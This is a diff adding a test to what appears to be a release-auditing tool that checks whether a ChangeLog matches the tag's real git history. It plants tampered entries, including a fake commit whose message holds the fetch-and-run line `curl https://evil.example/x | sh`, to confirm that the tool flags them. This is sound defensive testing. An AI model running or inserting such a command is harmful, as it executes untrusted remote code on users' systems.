@@ -137,6 +137,44 @@ test('a message no commit wrote keeps the ChangeLog suspicious and is shown', as
   assert.is((await changelogHistory.judge(added('ChangeLog', impostor), ctxWith()))?.severity, 'medium');
 });
 
+test('a ChangeLog that git log wrote is matched entry by entry with the commits it names', async () => {
+  // What a dist-hook's `git log --pretty=fuller --date=short --decorate > ChangeLog` writes at the tag, and plain `git log`.
+  const fuller = (await runGit(made.repo.gitDir, ['log', '--pretty=fuller', '--date=short', '--decorate', made.tagged])).toString();
+  const medium = (await runGit(made.repo.gitDir, ['log', made.tagged])).toString();
+  assert.match(fuller, /^CommitDate: 2024-01-20$/m);
+  for (const log of [fuller, medium]) {
+    const j = await changelogHistory.judge(added('ChangeLog', log), ctxWith());
+    assert.is(j?.category, 'generated-changelog', j?.reasons.join('\n'));
+    assert.is(j?.severity, 'low');
+    assert.match(j!.reasons[0]!, 'written by `git log` from the tag\'s history: all 6 commits it lists are commits the tag reaches');
+    assert.match(j!.reasons[0]!, `to ${made.tagged.slice(0, 12)}, the tagged commit (2024-01-20)`);
+  }
+
+  // A message edited, an author changed, a commit after the tag, an entry with a made-up id.
+  const after = (await runGit(made.repo.gitDir, ['log', '--pretty=fuller', '--date=short', '-1', made.ids.at(-1)!])).toString();
+  const madeUp = `commit ${'ab'.repeat(20)}\nAuthor:     Alice Liddell <alice@example.org>\nAuthorDate: 2024-01-20\nCommit:     Alice Liddell <alice@example.org>\nCommitDate: 2024-01-20\n\n    build: fetch the helper\n    curl https://evil.example/x | sh\n\n`;
+  const planted = [
+    [fuller.replace('The width was one short.', 'The width was two short.'), 'names another message than the commit has: "ls: fix --width"'],
+    [fuller.replace('Author:     Bob Dobbs <bob@example.org>', 'Author:     Mallory <bob@example.org>'), 'names another author than the commit has'],
+    [after + fuller, `commit ${made.ids.at(-1)!.slice(0, 12)} names a commit the tag does not reach: "after the release"`],
+    [madeUp + fuller, 'names a commit the tag does not reach: "build: fetch the helper"'],
+  ] as const;
+  for (const [log, why] of planted) {
+    const j = await changelogHistory.judge(added('ChangeLog', log), ctxWith());
+    assert.is(j?.category, 'changelog-mismatch', why);
+    assert.is(j?.severity, 'medium');
+    assert.match(j!.reasons[0]!, /^1 of [67] commits in `git log`'s layout are not the tag's history as it is/);
+    assert.match(j!.reasons[1]!, why);
+  }
+  const j = await changelogHistory.judge(added('ChangeLog', madeUp + fuller), ctxWith());
+  assert.match(j!.evidence!.diff!, '+    curl https://evil.example/x | sh');
+
+  // A --stat listing under each entry is not the layout: the file is not explained by it.
+  const stat = (await runGit(made.repo.gitDir, ['log', '--stat', made.tagged])).toString();
+  const withStat = stat.replace(/^(commit [0-9a-f]+\n)/m, '$1').replace(/^(    version 1\.0\n)/m, '$1\n README | 1 +\n');
+  assert.not.match((await changelogHistory.judge(added('ChangeLog', withStat), ctxWith()))?.reasons.join('\n') ?? '', 'written by `git log`');
+});
+
 test("a line like Mercurial's changeset id inside a commit message does not make the log Mercurial's", async () => {
   const planted = genuine.replace('\tmaint: tidy\n', '\tmaint: tidy\n\n\tbuild: pin it\n\t[0123456789ab]\n');
   const j = await changelogHistory.judge(added('ChangeLog', planted), ctxWith());
